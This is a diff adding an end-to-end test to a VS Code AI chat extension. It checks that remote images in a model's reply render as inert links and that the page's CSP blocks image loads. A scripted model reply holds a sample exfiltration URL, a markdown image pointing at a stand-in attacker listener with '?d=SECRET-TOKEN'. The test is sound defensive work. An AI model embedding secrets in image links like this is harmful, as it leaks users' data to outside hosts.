@@ -11,7 +11,9 @@
 // dangerous command's dialog is dismissed (Escape), which is a deny — dist/
 // stays and the model is told; Stop cancels a slow reply; a settings change
 // restarts the server with the new initializationOptions and "Tether: Ask"
-// continues the session; a missing binary gives a clear message.
+// continues the session; a reply with a remote image is shown with a link in
+// its place and the webview sends no request; a missing binary gives a clear
+// message.
 //
 // Environment: CODE_SERVER (the code-server executable; default: the one
 // .ci/vscode-e2e.sh installs), TETHER_VSIX (the packaged extension),
@@ -54,6 +56,10 @@ let context;
 let page;
 let shot = 0;
 let userData;
+// A TCP listener standing in for an attacker's server: every connection to it
+// (an image fetch would be one, TLS or not) is counted.
+let bait;
+const baitConnections = [];
 
 function log(...args) {
   console.log(`[e2e ${new Date().toISOString().slice(11, 23)}]`, ...args);
@@ -237,6 +243,12 @@ before(async () => {
   fs.writeFileSync(path.join(workspace, 'dist', 'bundle.js'), 'console.log(1)\n');
   fs.writeFileSync(path.join(workspace, 'README.md'), '# Demo project\n\nbuild/ holds generated files.\n');
 
+  bait = net.createServer((socket) => {
+    baitConnections.push(Date.now());
+    socket.destroy();
+  });
+  await new Promise((resolve) => bait.listen(0, '127.0.0.1', resolve));
+
   // The model: hello; then a dangerous command; then a reply quoting its result.
   model = await startScriptedModel([
     () => ({ text: HELLO, chunkDelayMs: 250, pieces: 8 }),
@@ -250,6 +262,12 @@ before(async () => {
     (body) => ({ text: `Understood, I left dist/ alone. (The tool said: ${lastMessage(body).content.split('\n')[0]})` }),
     () => ({ text: SLOW, chunkDelayMs: 400, pieces: 40 }),
     () => ({ text: 'Hello again, after the restart.' }),
+    () => ({
+      text:
+        `Here is the chart: ![build chart](https://127.0.0.1:${bait.address().port}/chart.png?d=SECRET-TOKEN)\n\n` +
+        'and ![logo][l]. Remote images stay unloaded.\n\n' +
+        `[l]: https://127.0.0.1:${bait.address().port}/logo.png`,
+    }),
   ]);
   log('scripted model at', model.url);
 
@@ -354,6 +372,7 @@ after(async () => {
     }
   }
   await model?.close();
+  bait?.close();
   fs.writeFileSync(path.join(ARTIFACTS, 'code-server.log'), codeServerLog);
   // The Tether output channel (server stderr + LSP trace), for the record.
   if (userData) fs.writeFileSync(path.join(ARTIFACTS, 'tether-output.log'), tetherOutput());
@@ -523,6 +542,75 @@ test('Tether in VS Code: chat, streaming, approvals, stop, history, settings', a
     const sessionIds = new Set(model.requests.map((r) => JSON.stringify(r.messages.find((m) => m.role === 'user'))));
     assert.equal(sessionIds.size, 1, 'every request carries the same first prompt: one session');
     assert.equal(model.requests.length, 7);
+  });
+
+  await step('a remote image in a reply is a link: the webview sends no request', async () => {
+    const port = bait.address().port;
+    const seen = [];
+    const failed = new Map();
+    const watch = (request) => {
+      if (request.url().includes(`127.0.0.1:${port}`)) seen.push(request.url());
+    };
+    const watchFailed = (request) => failed.set(request.url(), request.failure()?.errorText);
+    context.on('request', watch);
+    context.on('requestfailed', watchFailed);
+    try {
+      await chat.locator('#prompt').fill('Show me the build chart');
+      await chat.locator('#prompt').press('Enter');
+      const reply = chat.locator('.msg.assistant:not(.streaming) .md', { hasText: 'Remote images stay unloaded' });
+      await reply.waitFor();
+      await chat.locator('#activity').waitFor({ state: 'hidden' });
+      await screenshot('remote-image-as-link');
+      // No element anywhere in the chat would load an image from the network.
+      const remote = await chat.locator('img').evaluateAll((imgs) =>
+        imgs.map((i) => i.getAttribute('src') || '').filter((s) => !/^(data:|vscode-|https:\/\/[^/]*vscode-cdn)/.test(s)),
+      );
+      assert.deepEqual(remote, [], 'no remote <img> in the chat');
+      // In its place: a link the person may follow, saying what it is.
+      const link = reply.locator('a.image-link').first();
+      assert.match(await link.innerText(), /image “build chart” from 127\.0\.0\.1:\d+ \(not loaded\)/);
+      assert.equal(await link.getAttribute('href'), `https://127.0.0.1:${port}/chart.png?d=SECRET-TOKEN`);
+      assert.equal(await reply.locator('a.image-link').count(), 2, 'the reference-style image too');
+      assert.deepEqual(seen, [], 'no request left the webview for the images');
+      assert.deepEqual(baitConnections, [], 'nothing connected to the image host');
+      // And the CSP refuses remote images even if one were put in the page:
+      // the browser reports the violation instead of connecting.
+      const csp = await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+      const imgSrc = csp
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .find((d) => d[0] === 'img-src')
+        .slice(1);
+      assert.ok(imgSrc.includes('data:'), csp);
+      // Only the webview's own resource origins: no scheme-wide source.
+      for (const source of imgSrc) assert.doesNotMatch(source, /^(https?:|\*|http:\/\/\*)$/, csp);
+      const probe = await chat.locator('#log').evaluate(
+        (log, url) =>
+          new Promise((resolve) => {
+            document.addEventListener('securitypolicyviolation', (e) => resolve(`blocked by ${e.effectiveDirective}`), { once: true });
+            const img = document.createElement('img');
+            img.onload = () => resolve('loaded');
+            // If the error comes first, the bait below tells whether it connected.
+            img.onerror = () => resolve('not loaded');
+            img.src = url;
+            log.append(img);
+          }),
+        `https://127.0.0.1:${port}/csp-probe.png`,
+      );
+      await chat.locator('#log > img').evaluateAll((imgs) => imgs.forEach((i) => i.remove()));
+      assert.ok(probe === 'blocked by img-src' || probe === 'not loaded', probe);
+      const probeUrl = `https://127.0.0.1:${port}/csp-probe.png`;
+      if (seen.includes(probeUrl)) {
+        // The browser reports the attempt, refused before any connection.
+        await until('the probe to fail', () => failed.has(probeUrl));
+        assert.match(failed.get(probeUrl) ?? '', /csp/i, 'refused by the CSP');
+      }
+      assert.deepEqual(baitConnections, [], 'nothing connected to the image host');
+      assert.equal(model.requests.length, 8);
+    } finally {
+      context.off('request', watch);
+      context.off('requestfailed', watchFailed);
+    }
   });
 
   await step('a missing binary gives a clear message', async () => {
